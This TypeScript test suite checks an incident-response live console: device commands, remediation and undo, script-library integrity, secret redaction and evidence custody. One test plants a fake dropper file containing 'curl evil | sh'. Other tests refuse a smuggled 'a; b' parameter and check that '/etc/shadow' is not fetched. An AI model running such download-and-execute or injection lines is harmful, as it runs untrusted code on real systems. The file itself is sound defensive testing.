import { createHash } from 'node:crypto';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CommandRecord } from '../../lib/ports/console-desk.ts';
import { addIndicator } from '../../lib/procedures/console/add-indicator.ts';
import { cancelCommand } from '../../lib/procedures/console/cancel-command.ts';
import { closeIdleSessions, closeSession } from '../../lib/procedures/console/close-session.ts';
import { installScripts } from '../../lib/procedures/console/install-scripts.ts';
import { isAnswerFile } from '../../lib/procedures/console/next-line.ts';
import { openSession } from '../../lib/procedures/console/open-session.ts';
import { readCommandOutput } from '../../lib/procedures/console/read-command-output.ts';
import { runCommand } from '../../lib/procedures/console/run-command.ts';
import { workOnConsole } from '../../lib/procedures/console/work-on-console.ts';
import { workOnOrder } from '../../lib/procedures/console/work-on-order.ts';
import { getConsole } from '../../lib/queries/get-console.ts';
import { asked, type ConsoleHouse, startConsoleHouse } from '../support/console-house.ts';
import { type TestLedger, testLedger } from '../support/ledger.ts';

let house: ConsoleHouse;
const consoles = { linux: '', windows: '', macos: '' };
type System = keyof typeof consoles;

beforeAll(async () => {
  house = await startConsoleHouse();
  consoles.linux = await house.connect('jump-linux-01');
  consoles.windows = await house.connect('ws-finance-114');
  consoles.macos = await house.connect('mac-design-09');
});
afterAll(() => house?.close());

/** Runs a line to its end: it is in the ledger as typed, and what it printed is sealed. */
async function done(on: System, line: string): Promise<CommandRecord> {
  const command = await house.run(consoles[on], line);
  expect(command).toMatchObject({ state: 'done', line });
  const [given, ...more] = await house.facts('device.command-run', command.id);
  expect(more).toEqual([]);
  expect(given).toMatchObject({ line, sessionId: consoles[on], n: command.n });
  if (command.actionId !== null) {
    const [ended] = await house.facts('device.command-ended', command.id);
    expect(ended).toMatchObject({ line, result: 'done', words: command.words });
  }
  return command;
}

/** The items that a script of ours printed, out of its one sealed item, under the digest that was pinned. */
async function printed(on: System, line: string) {
  const command = await done(on, line);
  const [item, ...more] = await house.itemsOf(command);
  expect(more).toEqual([]);
  expect(item?.acquisition.steps['seal-evidence'].state).toBe('done');
  const output = item?.source.output;
  if (output?.kind !== 'command-output') throw new Error('it gave no output');
  const own = await house.context.scripts?.list();
  expect(own).toContainEqual(
    expect.objectContaining({ fileName: output.scriptName, sha256: output.scriptSha256 }),
  );
  const answer = (await house.printed(command))?.answer;
  expect(command.answer).toMatchObject({ items: answer?.count, exitCode: 0 });
  return answer?.items ?? [];
}

/** A line that is refused, in the ledger with its reason; nothing was asked of the device. */
async function refused(on: System, line: string, why: RegExp): Promise<void> {
  const given = await house.give(consoles[on], line);
  expect(given).toMatchObject({ state: 'refused', words: expect.stringMatching(why) });
  const [fact] = await house.facts('device.command-refused', given.id);
  expect(fact).toMatchObject({ line, sentence: given.words });
  expect((await house.record(given.id)).actionId).toBeNull();
}

async function lines(on: System, line: string): Promise<readonly string[]> {
  const { answer, actionId } = await done(on, line);
  expect(actionId).toBeNull();
  return answer?.kind === 'lines' ? answer.lines : [];
}

const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
const hosts = '127.0.0.1 localhost\n';

describe('the twenty basic commands', () => {
  it('cd', async () => {
    expect(await lines('linux', 'cd /etc')).toEqual(['/etc>', 'Whether it exists, dir says.']);
    expect(await printed('linux', 'dir ssh')).toContainEqual(
      expect.objectContaining({ path: '/etc/ssh/sshd_config' }),
    );
    await refused('linux', 'cd ~', /no home folder/);
  });

  it('cls', async () => {
    expect((await done('linux', 'cls')).answer).toEqual({ kind: 'cleared' });
    await refused('linux', 'cls all', /takes no/);
  });

  it('connect', async () => {
    expect(await lines('linux', 'connect')).toEqual(['Session established on jump-linux-01.']);
    await expect(house.connect('jump-linux-01')).rejects.toMatchObject({
      code: 'conflict',
      message: expect.stringContaining('one at a time'),
    });
  });

  it('connections', async () => {
    const [first] = await printed('windows', 'connections');
    expect(first).toMatchObject({ proto: 'tcp', localPort: expect.any(Number), pid: expect.any(Number) });
    await refused('linux', 'connections', /does not exist on Linux/);
    const policy = { ...house.context.policy, consoleExtensions: true };
    const input = { sessionId: consoles.linux, line: 'connections', requestKey: crypto.randomUUID() };
    const { id } = await runCommand.run({ ...house.context, policy }, house.person('responder'), input);
    expect(await house.settle(id)).toMatchObject({ state: 'done', answer: { kind: 'counted' } });
  });

  it('dir', async () => {
    expect(await printed('linux', 'dir /etc')).toContainEqual(
      expect.objectContaining({ path: '/etc/hosts', type: 'file', size: hosts.length }),
    );
    await refused('linux', 'dir C:\\Windows', /no drive letters/);
  });

  it('drivers', async () => {
    expect(await printed('windows', 'drivers')).toContainEqual(
      expect.objectContaining({ path: expect.stringMatching(/\.sys$/i) }),
    );
    await refused('macos', 'drivers', /does not exist on macOS/);
  });

  it('fg', async () => {
    expect(await lines('linux', 'fg 1')).toEqual([expect.stringContaining('cd /etc')]);
    await refused('linux', 'fg 999', /no command 999/);
  });

  it('fileinfo', async () => {
    const [info] = await printed('macos', 'fileinfo /etc/hosts');
    expect(info).toMatchObject({ path: '/etc/hosts', sha256: sha256(hosts), size: hosts.length });
    await refused('macos', 'fileinfo', /needs a path/);
  });

  it('findfile', async () => {
    expect(await printed('linux', 'findfile sshd_* /etc')).toContainEqual(
      expect.objectContaining({ path: '/etc/ssh/sshd_config' }),
    );
    await refused('linux', 'findfile ssh/x', /takes a file’s name/);
  });

  it('getfile', async () => {
    await refused('linux', 'getfile /etc/hosts', /needs fileinfo of the same thing first/);
    const command = await done('linux', 'getfile /etc/hosts -auto');
    const [item] = await house.itemsOf(command);
    expect(item?.acquisition.steps['seal-evidence'].state).toBe('done');
    expect(item?.source.output).toMatchObject({ kind: 'device-file', path: '/etc/hosts' });
    expect(command.answer).toMatchObject({
      kind: 'file',
      verdict: 'agrees',
      device: { sha256: sha256(hosts) },
      received: { contentSha256: sha256(hosts), sha256: expect.not.stringMatching(sha256(hosts)) },
    });
    expect(command.words).toBe('What arrived has the digest that the device printed.');
  });

  it('help', async () => {
    expect((await lines('linux', 'help getfile')).join('\n')).toContain('getfile <path> -auto');
    await refused('linux', 'help nonsense', /no such command/);
  });

  it('jobs', async () => {
    expect(await lines('linux', 'jobs')).toEqual(['No jobs.']);
    await refused('linux', 'jobs 3', /takes no/);
  });

  it('persistence', async () => {
    expect(await printed('windows', 'persistence')).toContainEqual(
      expect.objectContaining({ kind: 'runKey', location: expect.stringContaining('\\Run') }),
    );
    await refused('macos', 'persistence', /does not exist on macOS/);
  });

  it('processes', async () => {
    expect(await printed('linux', 'processes')).toContainEqual(
      expect.objectContaining({ pid: 1, cmdline: '/sbin/init' }),
    );
    await refused('linux', 'processes init', /whole number/);
  });

  it('registry', async () => {
    const key = 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run';
    const items = await printed('windows', `registry ${key}`);
    expect(items[0]).toMatchObject({ key: key.replace('HKLM', 'HKEY_LOCAL_MACHINE') });
    await refused('linux', `registry ${key}`, /does not exist on Linux/);
  });

  it('scheduledtasks', async () => {
    expect(await printed('windows', 'scheduledtask')).toContainEqual(
      expect.objectContaining({ path: expect.stringMatching(/^\\/), actions: [expect.any(String)] }),
    );
    await refused('linux', 'scheduledtasks', /does not exist on Linux/);
  });

  it('services', async () => {
    expect(await printed('windows', 'services -output json')).toContainEqual(
      expect.objectContaining({ startMode: 'Auto' }),
    );
    await refused('macos', 'services', /does not exist on macOS/);
  });

  it('startupfolders', async () => {
    expect(await printed('windows', 'startupfolders')).toContainEqual(
      expect.objectContaining({ name: expect.stringContaining('collaboration') }),
    );
    await refused('linux', 'startupfolders', /does not exist on Linux/);
  });

  it('status', async () => {
    expect(await lines('linux', 'status 1')).toEqual([expect.stringMatching(/^1 {2}done {2}cd \/etc/)]);
    await refused('linux', 'status 999', /no command 999/);
  });

  it('trace', async () => {
    expect(await lines('linux', 'trace')).toEqual([expect.stringContaining('Secrets are never part')]);
    expect(await house.context.register.look.deviceSession(consoles.linux)).toMatchObject({ trace: true });
    await refused('linux', 'trace on', /takes no/);
  });
});

describe('the ten advanced commands', () => {
  it('analyze', async () => {
    const command = await done('windows', 'analyze file C:\\Windows\\Temp\\setup.log -auto');
    expect(command.answer).toMatchObject({ kind: 'reputation', sha256: sha256('setup finished\r\n') });
    expect(command.notes).toContainEqual(expect.stringContaining('Deep analysis has no public interface'));
    expect(command.words).toMatch(/^Reputation lookup/);
    await refused('linux', 'analyze file /etc/hosts', /does not exist on Linux.*fileinfo/);
  });

  it('collect', async () => {
    const [item] = await house.itemsOf(await done('linux', 'collect'));
    expect(item?.source.output).toEqual({ kind: 'package' });
    expect(item?.acquisition.steps['seal-evidence'].state).toBe('done');
    await refused('windows', 'collect', /from the device’s page/);
  });

  it('isolate', async () => {
    await done('macos', 'isolate');
    await refused('windows', 'isolate', /response action on the device’s page/);
  });

  it('release', async () => {
    await done('macos', 'release');
    await refused('linux', 'release', /response action on the device’s page/);
  });

  it('run', async () => {
    const given = Buffer.from(JSON.stringify({ acq: 'by-hand', cwd: '/', path: '/etc' })).toString('base64');
    const command = await done('linux', `run hf-dir.sh -parameters "${given}"`);
    expect((await house.printed(command))?.result.output).toContain('/etc/hosts');
    await refused('linux', 'run other.sh', /not in the tenant’s library/);
    await refused('linux', 'run hf-dir.sh -parameters "a; b"', /forbids/);
    await refused('linux', 'run hf-dir.sh -parameters "-path /etc"', /takes one argument/);
  });

  it('library', async () => {
    const { answer } = await done('linux', 'library');
    const files = answer?.kind === 'library' ? answer.files : [];
    expect(files).toContainEqual(expect.objectContaining({ fileName: 'hf-dir.sh', pinned: 'as-pinned' }));
    await refused('linux', 'library delete hf-dir.sh', /the right to put files there/);
  });

  it('putfile', async () => {
    const command = await done('linux', 'putfile hf-dir.sh -keep');
    expect(await house.itemsOf(command)).toEqual([]); // Defender keeps no result of it
    expect(command.notes).toContainEqual(expect.stringContaining('neither -overwrite nor -keep'));
    await refused('linux', 'putfile ../x', /letters, digits/);
  });

  it('remediate', async () => {
    await refused('windows', 'remediate file C:\\Windows\\Temp\\setup.log', /needs getfile/);
    const line = 'remediate file C:\\Windows\\Temp\\setup.log -auto';
    const [item] = await printed('windows', line);
    expect(item).toMatchObject({ moved: true, sha256: sha256('setup finished\r\n') });
    const gone = await house.run(consoles.windows, 'fileinfo C:\\Windows\\Temp\\setup.log');
    expect(gone).toMatchObject({ state: 'failed', words: expect.stringContaining('its output says why') });
    expect(await lines('windows', 'remediate list')).toEqual([expect.stringContaining('setup.log')]);
  });

  it('scan', async () => {
    await done('linux', 'scan');
    await refused('windows', 'scan', /response action on the device’s page/);
  });

  it('undo', async () => {
    const [item] = await printed('windows', 'undo file C:\\Windows\\Temp\\setup.log');
    expect(item).toMatchObject({ restored: true });
    await refused('linux', 'undo registry HKLM\\Run', /does not exist on Linux/);
  });

  it('undo, of a file that the product moved, on every system', async () => {
    const root = join(house.cloud.home, 'cloud/devices/jump-linux-01/root');
    await done('linux', 'dir /'); // the device's tree is there from its first use on
    await writeFile(join(root, 'tmp/dropper.sh'), 'curl evil | sh\n');
    await done('linux', 'remediate file /tmp/dropper.sh -auto');
    await expect(readFile(join(root, 'tmp/dropper.sh'))).rejects.toThrow('ENOENT');
    const [item] = await printed('linux', 'undo file /tmp/dropper.sh');
    expect(item).toMatchObject({ restored: true, sha256: sha256('curl evil | sh\n') });
    expect(await readFile(join(root, 'tmp/dropper.sh'), 'utf8')).toBe('curl evil | sh\n');
    const none = await house.run(consoles.linux, 'undo file /etc/hosts');
    expect(none).toMatchObject({ state: 'failed' }); // Holdfast never moved it
  });
});

describe('a console', () => {
  const responder = () => house.person('responder');

  it('has one line at a time on the device: the next waits in its turn, and Ctrl+C takes it back', async () => {
    const offline = await house.connect('kiosk-lobby-02');
    const first = await house.give(offline, 'processes');
    const second = await house.give(offline, 'services');
    await house.work();
    expect([await stateOf(first.id), await stateOf(second.id)]).toEqual(['running', 'waiting']);
    const due = (await house.context.register.look.openCommands()).map(({ id }) => id);
    for (const { id } of [first, second]) expect(due).not.toContain(id); // they keep nobody else's from its turn
    const until = new Date('2026-03-01T09:00:05Z');
    const { shown } = await getConsole(
      { actor: responder(), db: house.database.db },
      ...(await at('kiosk-lobby-02')),
      undefined,
      [{ identity: 'reader', api: 'machine-actions', until }],
    );
    const told = [until.toISOString(), until.toISOString()]; // the second waits as long as what it waits behind
    expect(shown?.commands.map(({ throttledUntil }) => throttledUntil)).toEqual(told);
    await cancelCommand.run(house.context, responder(), { commandId: second.id });
    expect(await house.record(second.id)).toMatchObject({
      ...{ state: 'cancelled', actionId: null, words: 'Cancelled before it was sent.' },
    });
    await cancelCommand.run(house.context, responder(), { commandId: first.id });
    expect(await house.settle(first.id)).toMatchObject({
      state: 'cancelled',
      words: 'Cancelled; it may continue on the device.',
    });
    await closeSession.run(house.context, responder(), { sessionId: offline });
    await expect(house.give(offline, 'jobs')).rejects.toMatchObject({ code: 'conflict' });
  });

  it('neither sends nor keeps a line that looks like a secret', async () => {
    const secret =
      'run hf-dir.sh -parameters "https://x.blob.core.windows.net/c?sv=1&sig=c2VjcmV0LW9mLXRoZS10ZXN0"';
    const given = await house.give(consoles.linux, secret);
    expect(given).toMatchObject({
      state: 'refused',
      words: expect.stringContaining('neither sent nor kept'),
    });
    const rows = await house.database.asAdmin<{ text: string }>(
      `select to_jsonb(c)::text as text from device_command c
       union all select convert_from(body, 'utf8') from custody_event where body is not null`,
    );
    expect(rows.filter(({ text }) => text.includes('c2VjcmV0'))).toEqual([]);
  });

  it('takes a line that is sent twice for one', async () => {
    const input = { sessionId: consoles.linux, line: 'help', requestKey: crypto.randomUUID() };
    const first = await runCommand.run(house.context, responder(), input);
    await expect(runCommand.run(house.context, responder(), input)).resolves.toMatchObject({
      ...{ id: first.id, n: first.n },
    });
    await expect(
      runCommand.run(house.context, responder(), { ...input, line: 'jobs' }),
    ).rejects.toMatchObject({ code: 'conflict' });
  });

  it('asks a device once however many workers start its line', async () => {
    const dying = { ...house.context, worker: { id: 'another', address: '127.0.0.2' } };
    const signal = AbortSignal.timeout(30_000);
    const offline = await house.connect('kiosk-lobby-02');
    const given = await house.give(offline, 'drivers');
    await Promise.all([dying, house.context, dying].map((context) => workOnConsole(context, signal)));
    const asked = await house.database.db.deviceAction.count({ where: { requestKey: given.id } });
    expect(asked).toBe(1);
    await cancelCommand.run(house.context, responder(), { commandId: given.id });
    await house.settle(given.id);
    await closeSession.run(house.context, responder(), { sessionId: offline });
  });

  it('runs no script that is another one in the library than was reviewed', async () => {
    const signal = AbortSignal.timeout(30_000);
    const bytes = Buffer.from('#!/bin/sh\necho changed\n');
    const changed = { fileName: 'hf-findfile.sh', bytes, description: 'x', parametersDescription: null };
    await house.context.devices?.library?.put({ ...changed, replace: true }, signal);
    await refused('linux', 'findfile hosts /etc', /not the reviewed version: its SHA-256 differs/);
    await installScripts.run(house.context, house.person('lead-1'), {});
    expect(await printed('linux', 'findfile hosts /etc')).toHaveLength(1);
  });

  it('is one of ten of a person, and of one incident’s devices', async () => {
    await house.database.asAdmin(
      `insert into device_session (id, incident_id, device_id, device, read_at, person_object_id, person, reason, authority, folder)
       select gen_random_uuid(), incident_id, 'other-' || n, device, read_at, person_object_id, person, reason, authority, folder
       from device_session, generate_series(1, 7) n where id = $1`,
      [consoles.linux],
    );
    await expect(house.connect('kiosk-lobby-02')).rejects.toMatchObject({
      ...{ code: 'conflict', message: expect.stringContaining('ten consoles open') },
    });
    await house.database.asAdmin(
      "update device_session set closed_at = now(), closed_why = 'person' where device_id like 'other-%'",
    );
    const { incidentId } = await house.device('jump-linux-01');
    const stranger = { incidentId, deviceId: '0'.repeat(40), ...asked };
    await expect(openSession.run(house.context, responder(), stranger)).rejects.toMatchObject({
      code: 'not-found',
    });
  });

  it('shows what was printed to who may read it, as a read of the sealed item', async () => {
    const command = await done('linux', 'dir /etc/ssh');
    const [item] = await house.itemsOf(command);
    const evidenceId = item?.acquisition.evidenceId ?? '';
    const ledger = await testLedger(house.database);
    const read = (account: string) =>
      readCommandOutput.run(house.context, house.person(account), { evidenceId });
    const page = await whileSigning(ledger, read('responder')); // what is not signed yet is waited for
    await expect(read('lead-1')).rejects.toMatchObject({ code: 'forbidden' }); // another one asked for it
    const { look } = house.context.register;
    expect((await look.accessPolicy()).ownPackages).toBe(true);
    const file = { evidenceId, form: 'file' } as const;
    await expect(readCommandOutput.run(house.context, responder(), file)).rejects.toMatchObject({
      code: 'forbidden', // what leaves as a file takes a grant, also from who asked for it
    });
    expect(page).toMatchObject({ script: 'dir', exitCode: 0, read: { kind: 'answer' } });
    await ledger.sign();
    const facts = await look.committedFacts(evidenceId, ['access.content-opened', 'access.content-read']);
    expect(facts.map(({ type, detail }) => [type, 'seen' in detail])).toEqual([
      ['access.content-opened', true],
      ['access.content-read', true],
    ]);
  });

  it('removes no file for who lost the right while the line waited', async () => {
    const lead = house.person('lead-1');
    const sessionId = await house.connect('kiosk-lobby-02', lead);
    const standing = async () => ({ enabled: true, roles: ['responder'] as const });
    const later = { ...house.context, people: { ...house.context.people, standing } };
    const input = { sessionId, line: 'library delete hf-drivers.ps1', requestKey: crypto.randomUUID() };
    const { id } = await runCommand.run(later, lead, input);
    await workOnConsole(later, new AbortController().signal);
    expect(await house.record(id)).toMatchObject({
      ...{ state: 'failed', words: expect.stringContaining('has lost the right') },
    });
    expect(await house.database.db.custodyEvent.count({ where: { type: 'library.file-removed' } })).toBe(0);
    await closeSession.run(house.context, lead, { sessionId });
  });

  it('removes a file from the library for who may fill it, and says so', async () => {
    const lead = house.person('lead-1');
    const sessionId = await house.connect('kiosk-lobby-02', lead);
    const input = { sessionId, line: 'library delete hf-drivers.ps1', requestKey: crypto.randomUUID() };
    const { id } = await runCommand.run(house.context, lead, input);
    expect(await house.settle(id)).toMatchObject({
      state: 'done',
      words: expect.stringContaining('removed'),
    });
    expect(await house.database.db.custodyEvent.count({ where: { type: 'library.file-removed' } })).toBe(1);
    await refused('windows', 'drivers', /not in the tenant’s library/);
    await closeSession.run(house.context, lead, { sessionId });
  });

  it.each([
    ['before it was removed', 'hf-services.ps1', false],
    ['before the answer was on record', 'hf-registry.ps1', true],
  ] as const)('loses no removal over a death %s', async (_, fileName, found) => {
    const lead = house.person('lead-1');
    const sessionId = await house.connect('kiosk-lobby-02', lead);
    const library = house.context.devices?.library;
    if (library === undefined) throw new Error('the house has no librarian');
    const remove: typeof library.remove = async (name, signal) => {
      if (found) await library.remove(name, signal);
      throw new Error('the process died');
    };
    const dying = {
      ...house.context,
      devices: { ...house.context.devices, library: { ...library, remove } },
    };
    const requestKey = crypto.randomUUID();
    const input = { sessionId, line: `library delete ${fileName}`, requestKey };
    await expect(runCommand.run(dying, lead, input)).rejects.toThrow('the process died');
    const given = await house.context.register.look.consoleCommandByKey(requestKey);
    const id = given?.id ?? '';
    const [begun] = await house.facts('library.removal-begun', id);
    expect(begun).toMatchObject({ fileName });
    await house.work(); // it may still be at work: neither ended nor asked again
    await expect(cancelCommand.run(house.context, lead, { commandId: id })).rejects.toMatchObject({
      ...{ code: 'conflict', message: expect.stringContaining('asked already') },
    });
    expect(await stateOf(id)).toBe('waiting');
    await house.database.asAdmin('update defender_order set lease_until = now() where ended_at is null');
    const signal = AbortSignal.timeout(30_000);
    expect(await workOnOrder(house.context, signal)).toBe(true);
    expect(await workOnOrder(house.context, signal)).toBe(false);
    expect(await stateOf(id)).toBe('done');
    expect(await removals(fileName)).toMatchObject([{ fileName, sha256: begun?.sha256, found }]);
    expect((await library.files(signal)).map((one) => one.fileName)).not.toContain(fileName);
    await closeSession.run(house.context, lead, { sessionId });
  });

  it('removes no other file that has the name by then, and says so', async () => {
    const lead = house.person('lead-1');
    const sessionId = await house.connect('kiosk-lobby-02', lead);
    const library = house.context.devices?.library;
    if (library === undefined) throw new Error('the house has no librarian');
    const fileName = 'hf-persistence.ps1';
    const die = async () => {
      throw new Error('the process died');
    };
    const devices = { ...house.context.devices, library: { ...library, remove: die } };
    const requestKey = crypto.randomUUID();
    const input = { sessionId, line: `library delete ${fileName}`, requestKey };
    await expect(runCommand.run({ ...house.context, devices }, lead, input)).rejects.toThrow('died');
    const signal = AbortSignal.timeout(30_000);
    const other = { fileName, bytes: Buffer.from('other'), description: 'x', parametersDescription: null };
    await library.put({ ...other, replace: true }, signal);
    await house.database.asAdmin('update defender_order set lease_until = now() where ended_at is null');
    expect(await workOnOrder(house.context, signal)).toBe(true);
    const line = await house.context.register.look.consoleCommandByKey(requestKey);
    expect(line).toMatchObject({ state: 'failed', words: expect.stringContaining('another file by now') });
    expect(await removals(fileName)).toEqual([]);
    expect((await library.files(signal)).map((one) => one.fileName)).toContain(fileName);
    await closeSession.run(house.context, lead, { sessionId });
  });

  it('adds the hash of a taken file to the indicators, on record', async () => {
    const taken = (await house.context.register.look.sessionCommands(consoles.linux)).find(
      ({ answer }) => answer?.kind === 'file',
    );
    const commandId = taken?.id ?? '';
    const { indicatorId } = await addIndicator.run(house.context, responder(), {
      commandId,
      action: 'Alert',
    });
    const rows = await house.database.db.custodyEvent.findMany({ where: { type: 'device.indicator-added' } });
    const [detail] = rows.map(({ body }) => JSON.parse(Buffer.from(body ?? []).toString()).detail);
    expect(detail).toMatchObject({ indicatorId, sha256: sha256(hosts), action: 'Alert' });
  });

  it('fetches an answer that is too long to print by itself, and shows it as if it had been printed', async () => {
    await done('linux', 'dir /'); // the device's tree is there from its first use on
    const folder = join(house.cloud.home, 'cloud/devices/jump-linux-01/root/srv/many');
    await mkdir(folder, { recursive: true });
    for (let n = 0; n < 600; n += 1) await writeFile(join(folder, `${'long'.repeat(50)}-${n}`), '');
    const asked = await done('linux', 'dir /srv/many > many.json');
    expect(asked.words).toContain('the next line fetches them');
    const fetching = (await house.context.register.look.sessionCommands(consoles.linux)).at(-1);
    expect(fetching).toMatchObject({
      line: expect.stringContaining(`hf-${asked.id}.json`),
      notes: [expect.stringContaining(`the answer of line ${asked.n}`)],
      intoFile: 'many.json',
    });
    const fetched = await house.settle(fetching?.id ?? '');
    expect(fetched).toMatchObject({
      state: 'done',
      answer: { kind: 'file', verdict: 'agrees' },
    });
    const [item] = await house.itemsOf(fetched);
    expect(item?.acquisition.steps['seal-evidence'].state).toBe('done');
    const ledger = await testLedger(house.database);
    await ledger.sign();
    const evidenceId = item?.acquisition.evidenceId ?? '';
    const page = await whileSigning(
      ledger,
      readCommandOutput.run(house.context, responder(), { evidenceId }),
    );
    expect(page).toMatchObject({
      scriptName: 'hf-dir.sh',
      read: { kind: 'answer', output: { count: 600 } },
    });
    if (page.read.kind === 'answer') expect(page.read.output.items).toHaveLength(600);
  }, 60_000);

  it('fetches no file but the one that the script makes for its run, whatever the device names', () => {
    expect(isAnswerFile('/var/tmp/hf-run-1.json', 'run-1')).toBe(true);
    expect(isAnswerFile('C:\\Windows\\Temp\\hf-run-1.json', 'run-1')).toBe(true);
    expect(isAnswerFile('/etc/shadow', 'run-1')).toBe(false);
    expect(isAnswerFile('/var/tmp/hf-run-2.json', 'run-1')).toBe(false);
  });

  it('is closed after half an hour without a line, and what waits in it is not sent', async () => {
    await house.database.asAdmin(
      "update device_session set last_command_at = now() - interval '30 minutes' where id = $1",
      [consoles.macos],
    );
    expect(await closeIdleSessions(house.context)).toBe(1);
    expect(await closeIdleSessions(house.context)).toBe(0);
    await expect(house.give(consoles.macos, 'jobs')).rejects.toMatchObject({ code: 'conflict' });
    const page = await getConsole(
      { actor: responder(), db: house.database.db },
      ...(await at('mac-design-09')),
    );
    expect(page.shown).toMatchObject({ own: false, closedWhy: 'idle', lines: expect.any(Number) });
    expect(page).toMatchObject({ heldBy: null, may: { connect: true } });
  });
});

async function removals(fileName: string): Promise<readonly unknown[]> {
  const rows = await house.database.db.custodyEvent.findMany({ where: { type: 'library.file-removed' } });
  return rows
    .map(({ body }) => JSON.parse(Buffer.from(body ?? []).toString()).detail)
    .filter((detail) => detail.fileName === fileName);
}

async function stateOf(id: string): Promise<string> {
  return (await house.record(id)).state;
}

async function at(name: string): Promise<[string, string]> {
  const { incidentId, deviceId } = await house.device(name);
  return [incidentId, deviceId];
}

async function whileSigning<T>(ledger: TestLedger, work: Promise<T>): Promise<T> {
  let over = false;
  const ended = work.finally(() => {
    over = true;
  });
  while (!over) await ledger.sign();
  return await ended;
}
